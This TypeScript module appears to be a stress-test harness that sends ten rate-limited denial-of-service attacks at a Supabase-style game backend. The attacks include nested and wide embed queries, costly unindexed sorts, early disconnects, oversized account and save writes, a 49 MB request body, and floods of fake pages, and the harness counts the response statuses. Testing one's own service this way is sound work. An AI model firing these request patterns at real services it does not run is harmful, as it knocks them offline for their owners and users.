import http from "node:http";

/** What an attacker knows: the site's URL, its public key, and two new accounts. */
export type Target = { url: string; anonKey: string; tokens: string[] };

export type Attack = {
  name: string;
  /** Requests per second. */
  rate: number;
  send: (target: Target, turn: number) => void;
};

const DEEP = "seasons?select=*,shop_items(*,seasons(*,shop_items(*,seasons(*,shop_items(*)))))";
const wide = (turn: number) =>
  `shop_items?select=*,${Array.from({ length: 8 }, (_, i) => `w${turn}x${i}:seasons(*,shop_items(*))`).join(",")}`;
/** A small answer with a lot of work: sorted by an expression without an index. */
const sorted = (turn: number) =>
  `shop_items?select=*,seasons(*)&or=(name.ilike.*a*b*,name.ilike.*${turn}*)&order=description.desc,name.asc&limit=1000`;

export const ATTACKS: Attack[] = [
  { name: "deep embeds", rate: 2, send: (target) => ask(target, `/rest/v1/${DEEP}`) },
  { name: "deep embeds, disconnecting", rate: 20, send: (target) => ask(target, `/rest/v1/${DEEP}`, { hangUpMs: 20 }) },
  { name: "wide embeds", rate: 10, send: (target, turn) => ask(target, `/rest/v1/${wide(turn)}`) },
  { name: "unsorted reads", rate: 50, send: (target, turn) => ask(target, `/rest/v1/${sorted(turn)}`) },
  {
    name: "deep embeds of two new accounts",
    rate: 4,
    send: (target, turn) => ask(target, `/rest/v1/${DEEP}`, { token: target.tokens[turn % target.tokens.length]! }),
  },
  {
    name: "saves of one player",
    rate: 50,
    send: (target, turn) =>
      ask(target, "/rest/v1/rpc/save_game", {
        token: target.tokens[0]!,
        body: JSON.stringify({ app_id: "skyhop", data: "x".repeat(20_000) + turn, base_rev: turn }),
      }),
  },
  {
    name: "account data of one player",
    rate: 20,
    send: (target, turn) =>
      ask(target, "/auth/v1/user", {
        method: "PUT",
        token: target.tokens[0]!,
        body: JSON.stringify({ data: { [`k${turn}`]: "x".repeat(15_000) } }),
      }),
  },
  {
    name: "large bodies to a function",
    rate: 4,
    send: (target) => ask(target, "/functions/v1/verify-run", { body: LARGE_BODY }),
  },
  { name: "made-up searches", rate: 100, send: (target, turn) => ask(target, `/?q=word${turn}`, { isPage: true }) },
  { name: "made-up pages", rate: 100, send: (target, turn) => ask(target, `/nowhere/${turn}`, { isPage: true }) },
];

const LARGE_BODY = Buffer.alloc(49_000_000, "x");

type How = { method?: string; token?: string; body?: string | Buffer; hangUpMs?: number; isPage?: boolean };

/** Sends at a fixed rate and ignores the answers. */
function ask({ url, anonKey }: Target, path: string, { method, token, body, hangUpMs, isPage }: How = {}): void {
  const headers: Record<string, string> = isPage
    ? { accept: "text/html" }
    : { apikey: anonKey, authorization: `Bearer ${token ?? anonKey}`, "content-type": "application/json" };
  const request = http.request(url + path, {
    method: method ?? (body === undefined ? "GET" : "POST"),
    headers: body === undefined ? headers : { ...headers, "content-length": Buffer.byteLength(body) },
    agent: attackers,
  });
  request.on("error", () => {});
  request.on("response", (answer) => {
    answers.set(answer.statusCode!, (answers.get(answer.statusCode!) ?? 0) + 1);
    answer.resume();
  });
  if (hangUpMs !== undefined) setTimeout(() => request.destroy(), hangUpMs);
  request.end(body);
}

const attackers = new http.Agent({ keepAlive: false, maxSockets: 200 });
/** Statuses the attacker got since the last reset. */
const answers = new Map<number, number>();

export function takeAnswers(): Record<number, number> {
  const taken = Object.fromEntries(answers);
  answers.clear();
  return taken;
}
